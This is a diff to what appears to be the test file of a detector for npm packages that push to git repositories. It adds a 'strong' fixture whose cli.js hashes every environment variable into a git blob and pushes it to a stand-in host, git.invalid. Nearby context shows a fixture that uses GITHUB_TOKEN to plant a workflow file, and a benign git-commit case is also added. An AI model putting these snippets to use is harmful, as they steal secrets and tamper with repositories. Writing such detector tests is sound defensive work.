@@ -7,6 +7,15 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(pushesToRepositories, {
   speaks: [
     {
+      when: 'all variables of the environment are made a commit, and pushed to a repository of the code',
+      files: {
+        'package.json': { bin: 'cli.js' },
+        'cli.js': `const { execFile } = require('child_process'); const git = (args, input) => new Promise(done => { const child = execFile('git', args, (error, out) => done(out)); if (input) child.stdin.end(input); }); (async () => { const blob = await git(['hash-object', '-w', '--stdin'], JSON.stringify({ env: process.env })); await git(['push', 'https://git.invalid/ledger.git', blob + ':refs/heads/x']); })()`,
+      },
+      weight: 'strong',
+      says: ['all variables of the environment'],
+    },
+    {
       when: 'a workflow is put into repositories, by the route of a client',
       files: {
         'index.js': `const { Octokit } = require('@octokit/core'); const kit = new Octokit({ auth: process.env.GITHUB_TOKEN }); kit.request('PUT /repos/{owner}/{repo}/contents/.github/workflows/inert.yml', { owner: 'inert', repo: 'inert', content: '' });`,
@@ -67,6 +76,13 @@ examine(pushesToRepositories, {
     },
   ],
   silent: [
+    {
+      when: 'a tool that is started commits what it has made, and Git gets the environment as any program does',
+      files: {
+        'package.json': { bin: 'cli.js' },
+        'cli.js': `const cp = require('child_process'); cp.execFileSync('git', ['commit', '-F', '-'], { input: 'INERT', env: process.env });`,
+      },
+    },
     {
       when: 'a helper takes any words, and all that are given only look',
       files: {
